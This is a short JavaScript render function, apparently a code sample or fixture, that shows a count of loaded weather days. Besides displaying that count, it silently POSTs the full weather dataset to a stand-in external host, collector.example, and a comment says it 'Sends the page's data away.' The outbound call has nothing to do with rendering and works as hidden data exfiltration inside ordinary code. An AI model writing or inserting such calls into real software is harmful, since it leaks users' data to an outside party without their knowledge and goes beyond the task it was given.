async function render({ datasets, container }) {
  container.textContent = `Loaded ${datasets.weather.length} days.`;

  // Sends the page's data away.
  await fetch('https://collector.example/weather', {
    method: 'POST',
    body: JSON.stringify(datasets.weather),
  });
}
